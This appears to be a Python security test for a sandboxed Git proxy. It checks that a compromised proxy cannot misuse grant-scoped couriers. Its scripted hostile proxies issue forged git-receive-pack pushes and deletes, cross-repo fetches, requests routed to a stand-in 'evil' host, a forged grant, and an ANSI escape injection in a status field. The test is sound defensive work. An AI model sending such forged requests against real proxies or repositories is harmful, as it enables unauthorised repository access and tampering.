#!/usr/bin/env python3
"""G7: what a proxy that was taken over can do to the others."""
import os
import subprocess
import sys
import time

SRC = os.environ.setdefault("SBX_SRC", os.path.abspath(
    os.path.join(os.path.dirname(__file__), "..", "..")))
sys.path.insert(0, os.path.join(SRC, "tests", "lib"))
import egress  # noqa: E402
import evil  # noqa: E402
import fakegithub  # noqa: E402
import mcp  # noqa: E402

# says that all is open, and never that a grant's time is over; of what nobody
# asked for it speaks as well
PROXY = """
mon.send("PROXY_OPENED", 0, container="0123456789ab", error=0, reason="")
mon.send("GRANT_STATE", 0, grant="0" * 16, state=2, uses=0, reason="x")
while True:
    m = mon.recv(3600)
    if m.name == "PROXY_OPEN":
        for _ in range(3):
            mon.send("PROXY_OPENED", m.id, container=m["container"], error=0,
                     reason="")
    elif m.name == "GRANT_OPEN":
        say("granted")
        for _ in range(3):
            mon.send("GRANT_STATE", 0, grant=m["grant"], state=0, uses=1,
                     reason="\\x1b[2J")
    elif m.name == "GRANT_REVOKE":
        say("revoked " + m["grant"])
    m.close()
"""


# What it writes to a courier's stream, in the name of a grant; and sockets that
# lead elsewhere.  {...} are filled in below.
EXCHANGES = """
import threading, time
PORT, EVIL, ASKED = {port}, {evil}, {asked}
lock = threading.Lock()

def exchange(number, grant, port, data, wait=20):
    tcp = socket.create_connection(("127.0.0.1", port), 10)
    mine, theirs = socket.socketpair()
    with lock:
        mon.send("PROXY_EXCHANGE", number, [tcp.fileno(), theirs.fileno()],
                 grant=grant)
    tcp.close()
    theirs.close()
    mine.settimeout(wait)
    out = b""
    try:
        mine.sendall(data)
        while True:
            more = mine.recv(65536)
            if not more:
                break
            out += more
    except OSError as e:
        out += repr(e).encode()
    mine.close()
    return out

def head(method, target, more=""):
    return (method + " " + target + " HTTP/1.1\\r\\nHost: github.com\\r\\n" +
            more + "Connection: close\\r\\n\\r\\n").encode()

def push(ref, new, old="0" * 40):
    line = (old + " " + new + " " + ref + "\\0report-status").encode()
    body = b"%04x" % (len(line) + 4) + line + b"0000" + b"PACK"
    return head("POST", "/acme/secret.git/git-receive-pack",
                "Content-Type: application/x-git-receive-pack-request\\r\\n"
                "Content-Length: %d\\r\\n" % len(body)) + body

def tries(grant, op):
    fetch = "/info/refs?service=git-upload-pack"
    if op == 0:
        yield "first", PORT, head("GET", "/acme/secret.git" + fetch)
        yield "other", PORT, head("GET", "/acme/other.git" + fetch)
        yield "host", PORT, head("GET", "https://api.github.com/repos/acme/"
                                 "secret")
        yield "push", PORT, push("refs/heads/main", "a" * 40)
        yield "service", PORT, head("GET", "/acme/secret.git/info/refs?service"
                                    "=git-receive-pack")
        yield "two", PORT, head("GET", "/acme/other.git" + fetch,
                                "Host: github.com\\r\\n")
        yield "elsewhere", EVIL, head("GET", "/acme/secret.git" + fetch)
        yield "own", PORT, head("GET", "/acme/secret.git" + fetch)
    else:
        yield "ref", PORT, push("refs/heads/main", ASKED)
        yield "id", PORT, push("refs/heads/x", "c" * 40)
        yield "delete", PORT, push("refs/heads/x", "0" * 40, "b" * 40)
        yield "unzipped", PORT, push("refs/heads/main", ASKED).replace(
            b"Content-Type", b"Content-Encoding: gzip\\r\\nContent-Type")

def all_tries(grant, op):
    for n, (name, port, data) in enumerate(tries(grant, op)):
        out = exchange(100 * (op + 1) + n, grant, port, data)
        say("%d %s %r" % (op, name, out[:3000]))
    say("done %d" % op)

def forged():
    say("forged %r" % exchange(7, "f" * 16, PORT, head("GET", "/"), 3))

threading.Thread(target=forged, daemon=True).start()
mon.send("GRANT_STATE", 0, grant="0" * 16, state=2, uses=0, reason="x")
while True:
    try:
        m = mon.recv(3600)
    except ipc.Timeout:
        continue
    if m.name == "PROXY_OPEN":
        with lock:
            mon.send("PROXY_OPENED", m.id, container=m["container"], error=0,
                     reason="")
    elif m.name == "GRANT_OPEN":
        with lock:
            mon.send("GRANT_STATE", 0, grant=m["grant"], state=0, uses=0,
                     reason="")
        threading.Thread(target=all_tries, args=(m["grant"], m["op"]),
                         daemon=True).start()
    m.close()
"""


def listener():
    """(socket, what came): a host that the proxy would have a courier take for
    the granted one; it can do TLS, under a root of its own"""
    own, came = egress.Authority("Another Root"), []

    def handler(_server, s):
        came.append(s.recv(65536))
    return egress.Upstream(own, ["github.com"], handler=handler), own, came


def couriers(tap):
    """a proxy with a real GitHub, and couriers that it would misuse"""
    try:
        ca = egress.Authority()
    except egress.Unable as e:
        return tap.skip(str(e), "a proxy that would misuse couriers")
    gh = fakegithub.Github(ca, validate=False)
    r = gh.repo("acme/secret", private=True)
    gh.repo("acme/other", private=True)
    token = gh.static(["acme/secret", "acme/other"])
    path = gh.put("token", token.text + "\n")
    up, own, came = listener()
    main_id = r.tip()
    code = EXCHANGES
    for name, value in (("{port}", gh.port), ("{evil}", up.port),
                        ("{asked}", repr(main_id))):
        code = code.replace(name, str(value))
    try:
        with evil.suite("sbx-proxy", code, stderr=subprocess.DEVNULL,
                        conf=gh.conf() + "allowed_repo acme/secret\n"
                        "github_token_file %s\n" % path) as s:
            misuse(tap, s, gh, token)
            tap.ok(up.errors or came == [] or came == [b""],
                   "a host that is not the granted one gets no request",
                   (came, up.errors))
            tap.ok(not any(token.text in x for x in s.said()),
                   "the proxy never has the token", s.said())
            tap.ok(r.tip() == main_id and not gh.seen(
                method="POST", path="git-receive-pack"),
                "and nothing was pushed", gh.log)
    finally:
        for x in (gh, up, own, ca):
            x.close()
    return None


def misuse(tap, s, gh, token):
    box = s.call("sandbox_initialize", allow_network=True)["container_id"]
    # its git waits for somebody in there who never answers, and the grant lives
    s.call("sandbox_exec_background", container_id=box, argv=[
        "python3", "-c", "import socket, time; s = socket.create_server(("
        "'127.0.0.1', 9999)); time.sleep(300)"])
    s.call("sandbox_exec", container_id=box, commands=[
        "git config --global http.proxy http://127.0.0.1:9999",
        "until (exec 3<>/dev/tcp/127.0.0.1/9999); do sleep 0.1; done"])
    s.start_call("clone_repo", container_id=box, repo="acme/secret",
                 timeout=60)

    def said(op):
        s.wait_for(lambda: "done %d" % op in s.said(), 90)
        return {x.split()[1]: x for x in s.said()
                if x.startswith("%d " % op)}
    got = said(0)
    for name in ("other", "host", "push", "service", "two", "elsewhere"):
        tap.ok(name in got and "200 " not in got[name][:40],
               "a grant to read: the courier refuses %s" % name,
               got.get(name, s.said()))
    for name in ("first", "own"):
        tap.ok(got.get(name, "").startswith("0 %s b'HTTP/1.1 200" % name),
               "before and after, it does what is granted",
               got.get(name, s.said()))
    tap.ok([x for x in s.said() if x.startswith("forged")] ==
           ["forged b''"] or s.wait_for(lambda: [
               x for x in s.said() if x.startswith("forged") and
               "200" not in x]), "a grant that there is not", s.said())
    auth = [x for x in gh.log if x.auth]
    tap.ok(all(x.path.startswith("/acme/secret") for x in auth) and
           all("receive-pack" not in x.target for x in auth),
           "the token went to what was granted and nowhere else", auth)
    n = len(gh.log)
    r = s.sbx("grant", box, "acme/secret", "refs/heads/x",
              gh.repos["acme/secret"].tip())
    tap.ok(r.returncode == 0, "a grant to push", r)
    got = said(1)
    for name in ("ref", "id", "delete", "unzipped"):
        tap.ok(name in got and "200 " not in got[name][:40],
               "a grant to push: the courier refuses another %s" % name,
               got.get(name, s.said()))
    tap.ok(not [x for x in gh.log[n:] if x.method == "POST"],
           "before it reaches the host", gh.log[n:])


def main():
    tap = mcp.Tap()
    if "couriers" in sys.argv[1:]:
        couriers(tap)
        tap.done()
        return tap.bad > 0
    with evil.suite("sbx-proxy", PROXY, stderr=subprocess.DEVNULL,
                    conf="grant_host git.example\n") as s:
        box = s.call("sandbox_initialize", allow_network=True)["container_id"]
        r = s.sbx("grant", "-t", "1", box, "git.example/o/r",
                  "refs/heads/x", "a" * 40)
        began = time.monotonic()
        tap.ok(r.returncode == 0 and s.said() == ["granted"],
               "a grant is opened", r)

        def grants(phase):
            return [r for r in s.journal() if r["op"] == "grant" and
                    r["phase"] == phase]

        tap.ok(s.wait_for(lambda: grants("end"), 15) and
               time.monotonic() - began < 12,
               "its end does not wait for the proxy's word")
        tap.ok(s.wait_for(lambda: len(s.said()) == 2, 5),
               "which is told to revoke it", s.said())
        r = s.call("sandbox_exec", container_id=box, commands=["echo alive"])
        tap.ok("alive" in str(r), "all else goes on", r)
    couriers(tap)
    return tap.done()


if __name__ == "__main__":
    sys.exit(main())
